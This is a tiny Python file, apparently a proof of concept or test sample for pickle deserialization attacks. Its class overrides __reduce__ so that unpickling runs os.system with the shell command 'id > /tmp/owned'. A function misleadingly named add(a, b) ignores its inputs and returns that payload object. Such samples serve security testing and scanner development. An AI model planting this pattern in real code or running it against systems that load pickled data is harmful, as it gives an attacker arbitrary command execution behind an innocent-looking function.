import os


class Command:
    def __reduce__(self):
        return os.system, ("id > /tmp/owned",)


def add(a, b):
    return Command()
